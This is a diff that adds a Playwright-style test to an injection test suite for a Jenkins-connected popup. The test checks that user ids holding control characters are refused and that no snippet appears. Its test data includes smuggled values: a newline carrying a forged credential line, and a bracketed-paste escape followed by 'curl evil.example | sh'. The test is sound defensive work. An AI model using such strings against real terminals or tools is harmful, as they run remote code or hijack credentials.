@@ -560,6 +560,24 @@ describe('injection: hostile strings are shown as text and nothing runs', () => 
     }
   });
 
+  test('a user id with control characters (a newline, Ctrl-C, the end of a bracketed paste): refused before any snippet exists', async () => {
+    const tab = await logIn(browser.context, jenkins);
+    const json = 'application/json; charset=UTF-8';
+    for (const id of ['alice\nmachine evil.example login x password y', 'alice\u0003', 'alice\u001b[201~; curl evil.example | sh']) {
+      const whoami = { _class: 'hudson.security.WhoAmI', anonymous: false, authenticated: true, authorities: ['authenticated'], name: id };
+      await jenkins.fault({ method: 'GET', path_contains: 'whoAmI', mode: 'replace', status: 200, content_type: json, body: JSON.stringify(whoami) });
+      const popup = await popupOn(tab);
+      assert.equal(
+        await alertText(popup),
+        "Jenkins' answer couldn't be read while finding out who is logged in: the user id holds control characters, which no tool can take safely.",
+      );
+      assert.equal(await popup.getByRole('button', { name: 'Generate' }).isVisible(), false);
+      assert.equal(await popup.locator('.snippet').count(), 0);
+      await popup.close();
+    }
+    await tab.close();
+  });
+
   test('the checks notice a payload that does reach the DOM as markup (control)', async () => {
     const tab = await logIn(browser.context, jenkins);
     const popup = await popupOn(tab);
